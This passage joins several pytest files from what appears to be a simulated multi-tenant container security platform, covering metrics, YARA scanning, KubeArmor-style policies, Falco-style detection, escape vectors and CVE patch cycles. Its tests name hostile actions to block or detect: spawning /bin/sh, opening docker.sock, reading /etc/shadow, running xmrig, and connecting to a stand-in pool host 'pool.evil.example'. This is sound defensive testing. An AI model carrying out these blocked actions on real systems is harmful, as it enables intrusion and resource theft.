    def test_negative_increment_rejected(self):
        registry = MetricsRegistry()
        with pytest.raises(ValueError):
            registry.counter("n_total").inc(-1)

    def test_invalid_names_rejected(self):
        registry = MetricsRegistry()
        with pytest.raises(ValueError):
            registry.counter("bad name")
        with pytest.raises(ValueError):
            registry.counter("ok_total", labelnames=("bad-label",))


class TestGauge:
    def test_set_inc_dec(self):
        registry = MetricsRegistry()
        gauge = registry.gauge("depth")
        gauge.set(10)
        gauge.inc(5)
        gauge.dec(2)
        assert gauge.total() == 13


class TestHistogram:
    def test_bucket_boundaries_are_inclusive(self):
        """le is an upper *inclusive* bound, exactly like Prometheus."""
        registry = MetricsRegistry()
        hist = registry.histogram("lat", buckets=(0.1, 1.0, 10.0))
        child = hist.labels()
        for value in (0.1, 0.5, 1.0, 1.01, 50.0):
            child.observe(value)
        # raw (non-cumulative) per-bucket counts:
        #   <=0.1 -> one (0.1); <=1.0 -> two (0.5, 1.0);
        #   <=10.0 -> one (1.01); +Inf -> one (50.0)
        assert child.counts == [1, 2, 1, 1]
        assert child.cumulative_counts() == [1, 3, 4, 5]
        assert child.count == 5
        assert child.sum == pytest.approx(52.61)

    def test_infinity_bucket_appended(self):
        registry = MetricsRegistry()
        hist = registry.histogram("h", buckets=(1, 2))
        assert hist.buckets[-1] == float("inf")

    def test_default_buckets_sorted_and_capped(self):
        assert list(DEFAULT_BUCKETS) == sorted(DEFAULT_BUCKETS)
        assert DEFAULT_BUCKETS[-1] == float("inf")

    def test_labeled_histogram(self):
        registry = MetricsRegistry()
        hist = registry.histogram("d", labelnames=("step",), buckets=(1,))
        hist.observe(0.5, step="a")
        hist.observe(2.0, step="a")
        hist.observe(0.1, step="b")
        assert hist.labels(step="a").count == 2
        assert hist.labels(step="b").count == 1
        assert hist.total() == 3


class TestRegistry:
    def test_reregistration_returns_same_family(self):
        registry = MetricsRegistry()
        first = registry.counter("shared_total", labelnames=("k",))
        second = registry.counter("shared_total", labelnames=("k",))
        assert first is second

    def test_kind_mismatch_rejected(self):
        registry = MetricsRegistry()
        registry.counter("x_total")
        with pytest.raises(ValueError):
            registry.gauge("x_total")

    def test_label_schema_mismatch_rejected(self):
        registry = MetricsRegistry()
        registry.counter("y_total", labelnames=("a",))
        with pytest.raises(ValueError):
            registry.counter("y_total", labelnames=("b",))

    def test_total_of_unknown_metric_is_zero(self):
        assert MetricsRegistry().total("never_registered") == 0.0

    def test_snapshot(self):
        registry = MetricsRegistry()
        registry.counter("c_total", labelnames=("t",)).inc(t="x")
        snap = registry.snapshot()
        assert snap["c_total"][("x",)] == 1.0


class TestExporter:
    def test_counter_format(self):
        registry = MetricsRegistry()
        counter = registry.counter("bus_events_total", "Events.", ("topic",))
        counter.inc(topic="pon.frame")
        counter.inc(2, topic="host.syscall")
        text = registry.render()
        assert "# HELP bus_events_total Events." in text
        assert "# TYPE bus_events_total counter" in text
        assert 'bus_events_total{topic="pon.frame"} 1' in text
        assert 'bus_events_total{topic="host.syscall"} 2' in text

    def test_histogram_format_cumulative_with_inf(self):
        registry = MetricsRegistry()
        hist = registry.histogram("dur_seconds", "Duration.", buckets=(0.5, 1))
        hist.observe(0.25)
        hist.observe(0.75)
        hist.observe(9.0)
        text = registry.render()
        assert '# TYPE dur_seconds histogram' in text
        assert 'dur_seconds_bucket{le="0.5"} 1' in text
        assert 'dur_seconds_bucket{le="1"} 2' in text
        assert 'dur_seconds_bucket{le="+Inf"} 3' in text
        assert "dur_seconds_sum 10" in text
        assert "dur_seconds_count 3" in text

    def test_label_values_escaped(self):
        registry = MetricsRegistry()
        registry.counter("e_total", labelnames=("p",)).inc(p='a"b\\c\nd')
        assert r'e_total{p="a\"b\\c\nd"} 1' in registry.render()

    def test_deterministic_ordering(self):
        registry = MetricsRegistry()
        registry.counter("z_total").inc()
        registry.counter("a_total").inc()
        text = registry.render()
        assert text.index("a_total") < text.index("z_total")

    def test_empty_registry_renders_empty(self):
        assert MetricsRegistry().render() == ""


class TestTracer:
    def test_span_nesting_under_sim_clock_advance(self):
        clock = SimClock()
        tracer = Tracer(clock=clock)
        with tracer.span("outer") as outer:
            clock.advance(10.0)
            with tracer.span("inner") as inner:
                clock.advance(5.0)
            clock.advance(1.0)
        assert inner.parent is outer
        assert outer.children == [inner]
        assert inner.sim_duration == pytest.approx(5.0)
        assert outer.sim_duration == pytest.approx(16.0)
        assert inner.depth == 1 and outer.depth == 0
        # wall clocks are real and monotonic
        assert outer.wall_duration >= inner.wall_duration >= 0.0

    def test_finished_in_completion_order(self):
        tracer = Tracer(clock=SimClock())
        with tracer.span("a"):
            with tracer.span("b"):
                pass
        assert [span.name for span in tracer.finished] == ["b", "a"]
        assert [span.name for span in tracer.roots()] == ["a"]

    def test_find_and_attributes(self):
        tracer = Tracer(clock=SimClock())
        with tracer.span("step", mitigations=("M1", "M2")):
            pass
        (span,) = tracer.find("step")
        assert span.attributes["mitigations"] == ("M1", "M2")

    def test_span_closed_on_exception(self):
        tracer = Tracer(clock=SimClock())
        with pytest.raises(RuntimeError):
            with tracer.span("boom"):
                raise RuntimeError("x")
        assert tracer.active_span() is None
        assert tracer.find("boom")

    def test_walk(self):
        tracer = Tracer(clock=SimClock())
        with tracer.span("a"):
            with tracer.span("b"):
                pass
            with tracer.span("c"):
                pass
        (root,) = tracer.roots()
        assert [span.name for span in root.walk()] == ["a", "b", "c"]


class TestGlobalDefaults:
    def test_default_registry_is_shared(self):
        assert default_registry() is default_registry()

    def test_disable_telemetry_yields_no_registry(self):
        set_telemetry_enabled(False)
        assert active_registry() is None
        set_telemetry_enabled(True)
        assert active_registry() is default_registry()

    def test_bus_built_while_disabled_stays_uninstrumented(self):
        from repro.common.events import EventBus
        set_telemetry_enabled(False)
        bus = EventBus()
        set_telemetry_enabled(True)
        bus.emit("t", "s", 0.0)
        assert default_registry().total("bus_events_total") == 0.0

    def test_bus_feeds_default_registry(self):
        from repro.common.events import EventBus
        bus = EventBus()
        seen = []
        bus.subscribe("t", seen.append)
        bus.subscribe("", seen.append)
        bus.emit("t", "s", 0.0)
        registry = default_registry()
        counter = registry.get("bus_events_total")
        assert counter.labels(topic="t").value == 1
        assert registry.get("bus_deliveries_total").labels(topic="t").value == 2
        assert registry.total("bus_delivery_depth") == 1  # one observation
        assert "bus_history_size" in registry

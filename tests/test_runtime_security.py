"""Unit tests for M16 malware scanning, M17 sandboxing, M18 monitoring."""

import pytest

from repro.common.errors import QuarantineError
from repro.platform.workloads import (
    malicious_miner_image, ml_inference_image, vulnerable_webapp_image,
)
from repro.security.malware import (
    YaraRule, YaraScanner, default_ruleset, make_admission_hook,
)
from repro.security.monitor import (
    FalcoEngine, Priority, ResourceAbuseDetector, default_rules,
)
from repro.security.sandbox import (
    KubeArmorPolicy, PolicyAction, TenancyConfig, default_tenant_policy,
    install_policy, peach_score,
)
from repro.security.sandbox.peach import genio_hard_isolation, genio_soft_isolation
from repro.virt.container import ContainerSpec, ResourceLimits
from repro.virt.runtime import ContainerRuntime


class TestYara:
    def test_rule_conditions(self):
        any_rule = YaraRule("r", strings=(b"a", b"b"), condition="any")
        all_rule = YaraRule("r", strings=(b"a", b"b"), condition="all")
        threshold = YaraRule("r", strings=(b"a", b"b", b"c"), condition=2)
        assert any_rule.matches(b"xxaxx")
        assert not all_rule.matches(b"xxaxx")
        assert all_rule.matches(b"ab")
        assert threshold.matches(b"a..b")
        assert not threshold.matches(b"a only")

    def test_miner_image_detected(self):
        report = YaraScanner().scan_image(malicious_miner_image())
        assert not report.clean
        fired = report.rules_fired()
        assert "cryptominer" in fired
        assert "reverse_shell" in fired
        assert "obfuscated_loader" in fired

    def test_clean_image_passes(self):
        assert YaraScanner().scan_image(ml_inference_image()).clean

    def test_vulnerable_but_not_malicious_passes(self):
        # T7 apps are buggy, not malware: signatures must not fire.
        assert YaraScanner().scan_image(vulnerable_webapp_image()).clean

    def test_admission_hook_quarantines(self):
        runtime = ContainerRuntime("node")
        runtime.add_admission_hook(make_admission_hook())
        runtime.run(ContainerSpec(image=ml_inference_image()))
        with pytest.raises(QuarantineError) as excinfo:
            runtime.run(ContainerSpec(image=malicious_miner_image()))
        assert "cryptominer" in str(excinfo.value)


class TestKubeArmorPolicies:
    @pytest.fixture
    def runtime(self):
        runtime = ContainerRuntime("node")
        install_policy(runtime, default_tenant_policy("tenant-*"))
        return runtime

    def test_policy_blocks_shell_exec(self, runtime):
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        record = runtime.syscall(container.id, "execve", path="/bin/sh")
        assert not record.allowed
        assert "process /bin/sh blocked" in record.blocked_by

    def test_policy_blocks_docker_socket(self, runtime):
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        record = runtime.syscall(container.id, "open",
                                 path="/var/run/docker.sock", mode="r")
        assert not record.allowed

    def test_readonly_paths_allow_reads_block_writes(self, runtime):
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        read = runtime.syscall(container.id, "open", path="/etc/hosts", mode="r")
        write = runtime.syscall(container.id, "open", path="/etc/hosts", mode="w")
        assert read.allowed and not write.allowed

    def test_network_allowlist(self, runtime):
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        internal = runtime.syscall(container.id, "connect", dst="10.1.2.3")
        external = runtime.syscall(container.id, "connect",
                                   dst="pool.evil.example:3333")
        assert internal.allowed and not external.allowed

    def test_selector_scopes_policy(self, runtime):
        platform_ctr = runtime.run(ContainerSpec(image=ml_inference_image(),
                                                 tenant="platform"))
        record = runtime.syscall(platform_ctr.id, "execve", path="/bin/sh")
        assert record.allowed   # policy selects tenant-*, not platform

    def test_audit_mode_observes_without_blocking(self):
        runtime = ContainerRuntime("node")
        policy = default_tenant_policy("tenant-*")
        policy.action = PolicyAction.AUDIT
        install_policy(runtime, policy)
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        assert runtime.syscall(container.id, "execve", path="/bin/sh").allowed


class TestPeach:
    def test_hard_isolation_beats_soft(self):
        hard = peach_score(genio_hard_isolation())
        soft = peach_score(genio_soft_isolation(hardened=True))
        stock = peach_score(genio_soft_isolation(hardened=False))
        assert hard.overall > soft.overall > stock.overall
        assert hard.verdict == "adequate isolation"
        assert stock.verdict == "insufficient isolation for multi-tenancy"

    def test_dimensions_present(self):
        assessment = peach_score(genio_hard_isolation())
        assert set(assessment.dimension_scores) == {
            "privilege", "encryption", "authentication", "connectivity",
            "hygiene"}

    def test_findings_explain_score(self):
        stock = peach_score(genio_soft_isolation(hardened=False))
        assert any("seccomp" in f for f in stock.findings)
        assert any("flat network" in f for f in stock.findings)

    def test_privileged_workloads_tank_privilege_score(self):
        config = genio_hard_isolation()
        config.runs_privileged_workloads = True
        assessment = peach_score(config)
        assert assessment.dimension_scores["privilege"] <= 0.5


class TestFalco:
    @pytest.fixture
    def monitored_runtime(self):
        runtime = ContainerRuntime("node")
        engine = FalcoEngine()
        engine.attach(runtime.bus)
        return runtime, engine

    def test_shell_detection(self, monitored_runtime):
        runtime, engine = monitored_runtime
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        runtime.syscall(container.id, "execve", path="/bin/sh")
        assert engine.alerts_by_rule().get("shell_in_container") == 1

    def test_miner_and_outbound_detection(self, monitored_runtime):
        runtime, engine = monitored_runtime
        container = runtime.run(ContainerSpec(image=ml_inference_image()))
        runtime.syscall(container.id, "execve", path="/opt/.hidden/xmrig")
        runtime.syscall(container.id, "connect", dst="pool.evil.example:3333")
        fired = engine.alerts_by_rule()
        assert fired.get("cryptominer_exec") == 1
        assert fired.get("unexpected_outbound") == 1

    def test_monitoring_observes_blocked_and_allowed(self, monitored_runtime):
        """Falco sees attempts even when the LSM layer blocks them."""
        runtime, engine = monitored_runtime
        install_policy(runtime, default_tenant_policy())
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        record = runtime.syscall(container.id, "mount",
                                 path="/sys/fs/cgroup", mode="rw")
        assert not record.allowed                       # M17 blocked it
        assert engine.alerts_by_rule().get("privileged_syscall_attempt") == 1

    def test_tuning_exceptions_reduce_false_positives(self, monitored_runtime):
        runtime, engine = monitored_runtime
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="ops-debug"))
        runtime.syscall(container.id, "execve", path="/bin/sh")
        assert engine.alerts_by_rule().get("shell_in_container") == 1
        engine.rule("shell_in_container").add_exception(
            lambda e: e.get("tenant") == "ops-debug")
        runtime.syscall(container.id, "execve", path="/bin/sh")
        assert engine.alerts_by_rule().get("shell_in_container") == 1  # no new

    def test_priority_filtering(self, monitored_runtime):
        runtime, engine = monitored_runtime
        container = runtime.run(ContainerSpec(image=ml_inference_image()))
        runtime.syscall(container.id, "execve", path="/bin/sh")     # WARNING
        runtime.syscall(container.id, "open", path="/etc/shadow")   # CRITICAL
        critical = engine.alerts_at_least(Priority.CRITICAL)
        assert len(critical) == 1
        assert critical[0].rule == "sensitive_file_read"

    def test_overhead_counters(self, monitored_runtime):
        runtime, engine = monitored_runtime
        container = runtime.run(ContainerSpec(image=ml_inference_image()))
        for _ in range(100):
            runtime.syscall(container.id, "read", path="/data/file")
        assert engine.events_processed >= 100
        assert engine.overhead_estimate() > 0

    def test_detach_stops_processing(self, monitored_runtime):
        runtime, engine = monitored_runtime
        engine.detach()
        container = runtime.run(ContainerSpec(image=ml_inference_image()))
        runtime.syscall(container.id, "execve", path="/bin/sh")
        assert engine.alerts == []

    def test_double_attach_rejected(self, monitored_runtime):
        runtime, engine = monitored_runtime
        with pytest.raises(ValueError):
            engine.attach(runtime.bus)


class TestResourceAbuseDetection:
    def test_greedy_container_flagged_and_evicted(self):
        runtime = ContainerRuntime("node", cpu_capacity=8.0,
                                   memory_capacity_mb=16384)
        greedy = runtime.run(ContainerSpec(image=ml_inference_image(),
                                           tenant="tenant-greedy"))
        victim = runtime.run(ContainerSpec(image=ml_inference_image(),
                                           tenant="tenant-victim",
                                           limits=ResourceLimits(
                                               cpu_shares=1024, memory_mb=512)))
        runtime.consume(greedy.id, cpu=7.0, memory_mb=14000)
        runtime.consume(victim.id, cpu=0.5, memory_mb=256)

        detector = ResourceAbuseDetector(runtime, tolerance=1.5)
        findings = detector.sample()
        assert [f.tenant for f in findings] == ["tenant-greedy"]
        evicted = detector.evict_offenders()
        assert greedy.id in evicted
        assert not greedy.running and victim.running

    def test_fair_usage_not_flagged(self):
        runtime = ContainerRuntime("node", cpu_capacity=8.0)
        a = runtime.run(ContainerSpec(image=ml_inference_image()))
        b = runtime.run(ContainerSpec(image=ml_inference_image()))
        runtime.consume(a.id, cpu=2.0)
        runtime.consume(b.id, cpu=2.0)
        assert ResourceAbuseDetector(runtime, tolerance=1.5).sample() == []

    def test_tolerance_validation(self):
        with pytest.raises(ValueError):
            ResourceAbuseDetector(ContainerRuntime("n"), tolerance=0.5)
        with pytest.raises(ValueError):
            ResourceAbuseDetector(ContainerRuntime("n"), absolute_cap=0.0)

    def test_single_container_saturation_flagged(self):
        # Regression: with one running container there are no peers to
        # define fair share, so the relative rule can never fire — the
        # absolute cap must catch a lone tenant saturating the node.
        runtime = ContainerRuntime("node", cpu_capacity=8.0)
        lone = runtime.run(ContainerSpec(image=ml_inference_image(),
                                         tenant="tenant-lone"))
        runtime.consume(lone.id, cpu=7.6)   # 95% of the node
        findings = ResourceAbuseDetector(runtime).sample()
        assert [f.tenant for f in findings] == ["tenant-lone"]
        assert "absolute cap" in findings[0].detail

    def test_single_container_below_cap_not_flagged(self):
        runtime = ContainerRuntime("node", cpu_capacity=8.0)
        lone = runtime.run(ContainerSpec(image=ml_inference_image(),
                                         tenant="tenant-lone"))
        runtime.consume(lone.id, cpu=6.0)   # 75%: heavy but unchallenged
        assert ResourceAbuseDetector(runtime).sample() == []

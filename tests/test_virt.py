"""Unit tests for the virtualization substrate."""

import pytest

from repro.common.errors import CapacityError, NotFoundError, QuarantineError
from repro.virt.container import (
    DANGEROUS_CAPABILITIES, DEFAULT_CAPABILITIES, Container, ContainerSpec,
    ContainerState, Mount, ResourceLimits,
)
from repro.virt.hypervisor import Hypervisor
from repro.virt.image import ContainerImage, ImageLayer, ImagePackage
from repro.virt.runtime import ContainerRuntime, RuntimeConfig
from repro.virt.vm import VirtualMachine, VmSpec


def make_image(name="web-app", **kwargs):
    image = ContainerImage(name=name, **kwargs)
    image.add_layer({"/app/main.py": b"print('hi')"}, created_by="COPY app")
    return image


class TestImage:
    def test_digest_changes_with_content(self):
        a, b = make_image(), make_image()
        assert a.digest() == b.digest()
        b.add_layer({"/extra": b"x"})
        assert a.digest() != b.digest()

    def test_overlay_semantics(self):
        image = make_image()
        image.add_layer({"/app/main.py": b"print('patched')"})
        assert image.merged_files()["/app/main.py"] == b"print('patched')"

    def test_files_matching(self):
        image = make_image()
        image.add_layer({"/app/util.py": b"", "/app/data.json": b"{}"})
        assert set(image.files_matching(".py")) == {"/app/main.py", "/app/util.py"}

    def test_env_secrets_detection(self):
        image = make_image()
        image.env.update({"DB_PASSWORD": "x", "API_KEY": "y", "LOG_LEVEL": "info"})
        assert set(image.env_secrets()) == {"DB_PASSWORD", "API_KEY"}

    def test_reference(self):
        assert make_image().reference == "web-app:latest"


class TestContainerEscapeVectors:
    def test_default_spec_has_no_vectors(self):
        spec = ContainerSpec(image=make_image())
        assert Container("c1", spec).escape_vectors() == []

    def test_privileged_opens_everything(self):
        spec = ContainerSpec(image=make_image(), privileged=True)
        container = Container("c1", spec)
        assert spec.effective_capabilities() >= DANGEROUS_CAPABILITIES
        assert any("privileged" in v for v in container.escape_vectors())

    def test_cap_sys_admin_vector(self):
        spec = ContainerSpec(image=make_image(),
                             capabilities=set(DEFAULT_CAPABILITIES) | {"CAP_SYS_ADMIN"})
        assert any("CAP_SYS_ADMIN" in v
                   for v in Container("c", spec).escape_vectors())

    def test_sensitive_mount_vector(self):
        spec = ContainerSpec(image=make_image(),
                             mounts=[Mount("/etc", "/host-etc")])
        assert any("sensitive mount" in v
                   for v in Container("c", spec).escape_vectors())

    def test_read_only_sensitive_mount_softens(self):
        spec = ContainerSpec(image=make_image(),
                             mounts=[Mount("/etc", "/host-etc", read_only=True)])
        assert Container("c", spec).escape_vectors() == []

    def test_ptrace_needs_host_pid(self):
        base = set(DEFAULT_CAPABILITIES) | {"CAP_SYS_PTRACE"}
        no_hostpid = ContainerSpec(image=make_image(), capabilities=set(base))
        with_hostpid = ContainerSpec(image=make_image(), capabilities=set(base),
                                     host_pid=True)
        assert Container("a", no_hostpid).escape_vectors() == []
        assert Container("b", with_hostpid).escape_vectors() != []


class TestRuntime:
    @pytest.fixture
    def runtime(self):
        return ContainerRuntime("node-1", cpu_capacity=4.0,
                                memory_capacity_mb=8192)

    def test_run_and_stop(self, runtime):
        container = runtime.run(ContainerSpec(image=make_image()))
        assert container.running
        runtime.stop(container.id)
        assert container.state is ContainerState.STOPPED

    def test_admission_hook_blocks(self, runtime):
        runtime.add_admission_hook(
            lambda spec: "malware found" if spec.image.name == "evil" else None)
        runtime.run(ContainerSpec(image=make_image("good")))
        with pytest.raises(QuarantineError):
            runtime.run(ContainerSpec(image=make_image("evil")))

    def test_capacity_enforced_on_guaranteed_resources(self, runtime):
        big = ResourceLimits(cpu_shares=8 * 1024, memory_mb=1024)
        with pytest.raises(CapacityError):
            runtime.run(ContainerSpec(image=make_image(), limits=big))

    def test_seccomp_default_blocks_dangerous_syscalls(self, runtime):
        container = runtime.run(ContainerSpec(image=make_image()))
        record = runtime.syscall(container.id, "init_module")
        assert not record.allowed
        assert record.blocked_by == "seccomp:default"
        assert runtime.blocked_actions == 1

    def test_unconfined_seccomp_still_needs_capability(self, runtime):
        """Disabling seccomp alone is not enough: the kernel capability
        check still denies module loading without CAP_SYS_MODULE."""
        container = runtime.run(ContainerSpec(image=make_image(),
                                              seccomp_profile="unconfined"))
        record = runtime.syscall(container.id, "init_module")
        assert not record.allowed
        assert record.blocked_by == "capability:CAP_SYS_MODULE"

    def test_unconfined_seccomp_with_capability_allows(self, runtime):
        from repro.virt.container import DEFAULT_CAPABILITIES
        container = runtime.run(ContainerSpec(
            image=make_image(), seccomp_profile="unconfined",
            capabilities=set(DEFAULT_CAPABILITIES) | {"CAP_SYS_MODULE"}))
        assert runtime.syscall(container.id, "init_module").allowed

    def test_privileged_bypasses_seccomp(self, runtime):
        container = runtime.run(ContainerSpec(image=make_image(), privileged=True))
        assert runtime.syscall(container.id, "mount").allowed

    def test_lsm_policy_blocks_and_event_published(self, runtime):
        events = []
        runtime.bus.subscribe("runtime.syscall", events.append)
        runtime.add_lsm_policy(
            "no-exec", lambda c, a, args: "execve blocked" if a == "execve" else None)
        container = runtime.run(ContainerSpec(image=make_image()))
        record = runtime.syscall(container.id, "execve", path="/bin/sh")
        assert not record.allowed and record.blocked_by.startswith("lsm:no-exec")
        assert events[-1].get("allowed") is False

    def test_resource_limits_clamp(self, runtime):
        limited = runtime.run(ContainerSpec(
            image=make_image(),
            limits=ResourceLimits(cpu_shares=1024, memory_mb=512)))
        assert not runtime.consume(limited.id, cpu=2.0, memory_mb=1024)
        assert limited.cpu_used <= 1.0
        assert limited.memory_used_mb <= 512

    def test_unlimited_container_starves_node(self, runtime):
        greedy = runtime.run(ContainerSpec(image=make_image("greedy")))
        runtime.consume(greedy.id, cpu=4.0, memory_mb=8192)
        assert runtime._cpu_free() == 0.0
        util = runtime.utilization()
        assert util["cpu_used"] == util["cpu_capacity"]

    def test_kill_records_reason(self, runtime):
        container = runtime.run(ContainerSpec(image=make_image()))
        runtime.kill(container.id, "policy violation")
        assert container.state is ContainerState.KILLED
        assert container.kill_reason == "policy violation"

    def test_unknown_container(self, runtime):
        with pytest.raises(NotFoundError):
            runtime.syscall("ghost", "open")


class TestHypervisor:
    def test_vm_lifecycle_and_capacity(self):
        hv = Hypervisor("olt-1", cpu_cores=8, memory_mb=16384)
        vm = hv.create_vm(VmSpec("worker-1", vcpus=4, memory_mb=8192))
        assert hv.cpu_free() == 4
        hv.create_vm(VmSpec("worker-2", vcpus=4, memory_mb=8192))
        with pytest.raises(CapacityError):
            hv.create_vm(VmSpec("worker-3", vcpus=1, memory_mb=1024))
        hv.destroy_vm(vm.id)
        assert hv.cpu_free() == 4

    def test_invalid_vm_spec(self):
        with pytest.raises(ValueError):
            VmSpec("bad", vcpus=0)

    def test_escape_requires_unpatched_cve(self):
        hv = Hypervisor("olt-1")
        vm = hv.create_vm(VmSpec("w", vcpus=1, memory_mb=1024))
        assert not hv.attempt_escape(vm.id, "CVE-2019-14378")
        hv.mark_unpatched("CVE-2019-14378")
        assert hv.attempt_escape(vm.id, "CVE-2019-14378")
        hv.patch("CVE-2019-14378")
        assert not hv.attempt_escape(vm.id, "CVE-2019-14378")

    def test_vm_has_nested_runtime(self):
        hv = Hypervisor("olt-1")
        vm = hv.create_vm(VmSpec("worker", vcpus=2, memory_mb=4096))
        assert vm.runtime.cpu_capacity == 2.0
        container = vm.runtime.run(ContainerSpec(image=make_image()))
        vm.shutdown()
        assert not vm.running and not container.running

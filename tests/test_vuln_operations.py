"""Tests for operational vulnerability management on the simulation clock."""

import pytest

from repro.common.clock import SimClock
from repro.osmodel.presets import stock_onl_olt_host
from repro.security.vulnmgmt import build_cve_corpus
from repro.security.vulnmgmt.feeds import FeedAggregator, NvdApiFeed, StructuredFeed
from repro.security.vulnmgmt.hostscan import HostScanner, ONL_PACKAGE_ALIASES
from repro.security.vulnmgmt.operations import VulnerabilityOperations

_DAY = 86400.0


def make_ops(cadence_days=7.0, clock=None):
    return VulnerabilityOperations(
        host=stock_onl_olt_host(),
        scanner=HostScanner(build_cve_corpus(),
                            package_aliases=ONL_PACKAGE_ALIASES),
        aggregator=FeedAggregator(
            feeds=[StructuredFeed("debian-security-tracker",
                                  ecosystems=("debian",),
                                  advisory_lag=12 * 3600.0)],
            nvd_fallback=NvdApiFeed()),
        clock=clock or SimClock(),
        patch_cadence_days=cadence_days)


class TestVulnerabilityOperations:
    def test_invalid_cadence(self):
        with pytest.raises(ValueError):
            make_ops(cadence_days=0)

    def test_nothing_patched_before_awareness(self):
        clock = SimClock()
        ops = make_ops(clock=clock)
        # At t=0 only CVEs published at/before 0 could even be aware —
        # the corpus publishes from day 1 onward, so the cycle is a no-op.
        assert ops.run_cycle() == []
        assert all(l.patched_at is None for l in ops.lifecycles.values())

    def test_patching_happens_after_awareness(self):
        clock = SimClock()
        ops = make_ops(clock=clock)
        clock.advance(20 * _DAY)
        patched = ops.run_cycle()
        assert patched
        for cve_id in patched:
            lifecycle = ops.lifecycles[cve_id]
            assert lifecycle.aware_at <= lifecycle.patched_at == clock.now
            assert lifecycle.attack_window_days >= 0

    def test_run_for_schedules_cycles(self):
        ops = make_ops(cadence_days=7.0)
        ops.run_for(30.0)
        assert ops.cycles_run == 4
        assert ops.clock.now == 30 * _DAY

    def test_unpatchable_cves_tracked(self):
        ops = make_ops(cadence_days=1.0)
        ops.run_for(70.0)
        stats = ops.attack_window_stats()
        assert stats["unpatchable"] >= 1        # telnetd has no fix
        unpatchable = [l for l in ops.lifecycles.values() if not l.patchable]
        assert any(l.package in ("telnetd", "linux-kernel")
                   for l in unpatchable)

    def test_attack_window_shrinks_with_cadence(self):
        fast = make_ops(cadence_days=1.0)
        fast.run_for(70.0)
        slow = make_ops(cadence_days=30.0)
        slow.run_for(70.0)
        fast_window = fast.attack_window_stats()["mean_window_days"]
        slow_window = slow.attack_window_stats()["mean_window_days"]
        assert fast_window < slow_window

    def test_lifecycle_never_patched_before_published(self):
        ops = make_ops(cadence_days=1.0)
        ops.run_for(70.0)
        for lifecycle in ops.lifecycles.values():
            if lifecycle.patched_at is not None:
                assert lifecycle.patched_at >= lifecycle.published_at
                assert lifecycle.aware_at is not None
                assert lifecycle.patched_at >= lifecycle.aware_at

    def test_stats_by_source_consistent(self):
        ops = make_ops(cadence_days=1.0)
        ops.run_for(70.0)
        stats = ops.attack_window_stats()
        assert stats["patched"] == sum(
            1 for l in ops.lifecycles.values()
            if l.attack_window_days is not None)
        assert set(stats["mean_window_by_source"]) <= {
            "debian-security-tracker", "nvd"}

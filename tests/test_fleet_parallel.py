"""Tests for the parallel fleet path: shard configs, pool, merge, CLI.

The load-bearing property is worker-count invariance: a shard's entire
event stream is a function of its :class:`ShardConfig` alone, so the
rendered fleet report must be byte-identical no matter how many worker
processes host the shards.
"""

import pickle

import pytest

from repro.__main__ import main
from repro.traffic.fleet import (
    CycleResult, FleetDriver, ParallelFleetDriver, ShardConfig, ShardPool,
    ShardRunner, fleet_shard_configs, run_fleet_parallel,
)


class TestShardConfigs:
    def test_split_matches_the_legacy_driver(self):
        configs = fleet_shard_configs(4, 10)
        assert [len(c.specs) for c in configs] == [3, 3, 2, 2]
        driver = FleetDriver(n_olts=4, n_tenants=10)
        assert ([[s.tenant for s in c.specs] for c in configs]
                == [[s.tenant for s in shard.specs]
                    for shard in driver.shards])

    def test_hostile_only_on_the_first_shard(self):
        profiles = [[s.profile for s in c.specs]
                    for c in fleet_shard_configs(3, 9, hostile=True)]
        assert profiles[0][-1] == "hostile"
        assert all("hostile" not in shard for shard in profiles[1:])

    def test_no_hostile_anywhere_when_disabled(self):
        for config in fleet_shard_configs(3, 9, hostile=False):
            assert all(s.profile != "hostile" for s in config.specs)

    def test_validation(self):
        with pytest.raises(ValueError):
            fleet_shard_configs(0, 5)
        with pytest.raises(ValueError):
            fleet_shard_configs(4, 2)

    def test_configs_are_picklable(self):
        configs = fleet_shard_configs(2, 4, seed=3)
        assert pickle.loads(pickle.dumps(configs)) == configs


class TestShardRunner:
    def test_advance_returns_captured_events_in_order(self):
        runner = ShardRunner(fleet_shard_configs(1, 3, seed=1)[0])
        runner.start(0.1)
        result = runner.advance(0.1)
        assert isinstance(result, CycleResult)
        assert result.events
        assert [row[1] for row in result.events] \
            == sorted(row[1] for row in result.events)
        assert [row[0] for row in result.events] \
            == sorted(row[0] for row in result.events)
        assert sum(result.offered.values()) > 0
        assert result.events_fired > 0

    def test_successive_advances_do_not_replay_events(self):
        runner = ShardRunner(fleet_shard_configs(1, 3, seed=1)[0])
        runner.start(0.2)
        first = runner.advance(0.1)
        second = runner.advance(0.2)
        assert first.events and second.events
        assert second.events[0][1] > first.events[-1][1]   # seq advances

    def test_same_config_same_stream(self):
        config = fleet_shard_configs(2, 6, seed=9)[1]
        streams = []
        for _ in range(2):
            runner = ShardRunner(config)
            runner.start(0.1)
            streams.append(runner.advance(0.1).events)
        assert streams[0] == streams[1]


class TestShardPool:
    def test_validation(self):
        with pytest.raises(ValueError):
            ShardPool([], workers=1)
        with pytest.raises(ValueError):
            ShardPool(fleet_shard_configs(1, 2), workers=0)

    def test_workers_clamped_to_shard_count(self):
        pool = ShardPool(fleet_shard_configs(1, 2), workers=8)
        assert pool.workers == 1         # one shard -> in-process fallback
        assert pool._local
        pool.close()

    def test_in_process_pool_runs_without_multiprocessing(self):
        pool = ShardPool(fleet_shard_configs(2, 4, seed=2), workers=1)
        assert not pool._procs
        n_cycles = pool.start(0.1)
        assert n_cycles == 5
        results = pool.advance(0.1)
        assert [r.shard_index for r in results] == [1, 2]
        reports = pool.reports()
        assert list(reports) == ["olt-1", "olt-2"]
        pool.close()


class TestParallelDriver:
    def test_workers_do_not_change_the_rendered_report(self):
        kwargs = dict(n_olts=2, n_tenants=6, seconds=0.3, seed=5)
        single = run_fleet_parallel(workers=1, **kwargs).render()
        multi = run_fleet_parallel(workers=2, **kwargs).render()
        assert single == multi

    def test_downstream_run_is_worker_invariant_too(self):
        # The downstream cycle runs inside each shard; its per-tenant
        # profiles are string-seeded, so the full bidirectional report
